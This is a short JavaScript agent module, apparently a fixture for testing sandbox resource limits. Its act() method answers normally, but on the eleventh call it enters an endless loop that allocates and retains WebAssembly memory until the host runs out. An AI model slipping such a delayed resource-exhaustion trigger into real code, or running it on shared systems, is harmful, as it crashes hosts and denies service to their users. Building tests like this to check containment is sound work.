const SEARCH = 115;
let answers = 0;

export const createAgent = () => ({
  async act() {
    answers += 1;
    if (answers === 11) await attempt();
    return SEARCH;
  },
});

const denied = (what) => console.error('denied:', String(what));

async function attempt() {
  const kept = [];
  for (;;) {
    const { buffer } = new WebAssembly.Memory({ initial: 512, maximum: 512 });
    new Uint8Array(buffer).fill(1);
    kept.push(buffer);
  }
}
